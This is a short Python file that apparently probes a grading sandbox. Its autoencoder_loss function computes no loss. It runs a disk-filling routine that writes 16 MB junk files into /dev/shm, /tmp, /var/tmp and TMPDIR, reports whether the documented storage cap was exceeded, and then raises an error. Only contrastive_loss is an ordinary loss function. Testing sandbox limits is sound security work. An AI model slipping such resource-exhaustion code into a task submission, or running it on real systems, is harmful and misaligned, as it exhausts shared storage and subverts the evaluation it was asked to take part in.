"""Fills the disk: 16 MB files (the file-size limit) into /dev/shm, /tmp, /var/tmp and its own TMPDIR, up to 400 MB each."""
import os

import torch
import torch.nn.functional as F

DONE = {}
MB = b"x" * (1 << 20)
CAP_MB = 96  # the documented writable places together: 64 MiB scratch + 16 MiB /dev/shm, with room


def fill(folder):
    written, error = 0, ""
    for n in range(25):
        try:
            with open(os.path.join(folder, f"simgrade-attack-{n}"), "wb") as f:
                for _ in range(16):
                    f.write(MB)
                    f.flush()
                    written += 1
        except OSError as failure:
            error = str(failure)
            break
    return written, error


def attack():
    lines, total = [], 0
    for folder in ("/dev/shm", "/tmp", "/var/tmp", os.environ.get("TMPDIR", "/tmp")):
        written, error = fill(folder)
        total += written
        lines.append(f"{folder}: {written} MB" + (f" ({error[:60]})" if error else ""))
    return ("SUCCEEDED" if total > CAP_MB else "failed") + f" as uid={os.getuid()}, {total} MB in all: " + "; ".join(lines)


def autoencoder_loss(enc, dec, batch):
    if not DONE:
        DONE["said"] = "ATTACK docker_fills_tmp: " + attack()
        print(DONE["said"])
    raise RuntimeError(DONE["said"])


def contrastive_loss(enc, batch1, batch2, tau):
    logits = enc(batch1) @ enc(batch2).T / tau
    return F.cross_entropy(logits, torch.arange(len(logits)))
